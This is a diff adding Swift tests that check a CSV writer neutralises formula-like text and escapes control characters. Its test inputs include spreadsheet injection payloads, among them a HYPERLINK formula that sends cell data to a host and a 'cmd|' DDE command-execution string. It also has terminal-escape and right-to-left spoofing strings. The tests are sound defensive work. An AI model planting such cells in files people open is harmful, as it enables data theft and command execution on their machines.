@@ -30,6 +30,41 @@ import Testing
             try row([.seconds(0), .seconds(0.04), .seconds(1 / 29.97)]) == "0.000,0.040,0.033367\n")
     }
 
+    /// A spreadsheet runs what begins like a formula, also in quotes; our own reader gets the text back.
+    @Test(arguments: [Separator.comma, .tab])
+    func noTextIsAFormulaAndEveryTextComesBack(_ separator: Separator) throws {
+        let texts = [
+            "=HYPERLINK(\"http://x/\"&A1;\"y\")", "+1", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0",
+            "\t=1",
+            "\r=1", "\n=1", "＝1", "'=1", "''-1", "'tis", "-", "plain", "ä, \"ö\"",
+        ]
+        let bytes = try FileWriter.bytes { output throws(Failure) in
+            try output.writeRow(
+                [.text("text"), .text("number"), .text("=3")], separator: separator)
+            for text in texts {
+                try output.writeRow(
+                    [.text(text), .number(-0.5, decimals: 2), .integer(-3)], separator: separator)
+            }
+        }
+        let table = try TableReader(LineReader("x.csv", bytes: bytes))
+        #expect(table.header == ["text", "number", "=3"])
+        for text in texts {
+            let row = try #require(try table.next())
+            #expect(row.text(0) == text)
+            let first = String(decoding: row.cells[0].bytes, as: UTF8.self).unicodeScalars.first
+            #expect(first.map(CodeText.formulaStarts.contains) != true, "\(text)")
+            #expect(String(decoding: row.cells[1].bytes, as: UTF8.self) == "-0.5")
+            #expect(try row.number(1) == -0.5)
+            #expect(try row.whole(2) == -3)
+        }
+        #expect(try table.next() == nil)
+    }
+
+    @Test func noTextReadsOtherwiseThanItIs() throws {
+        #expect(
+            try row([.text("t\u{202E}4pm\u{1B}[2J")]) == "t\\u{202e}4pm\\u{1b}[2J\n")
+    }
+
     // MARK: Files
 
     @Test func featuresHaveARowPerInstantAndSeat() throws {
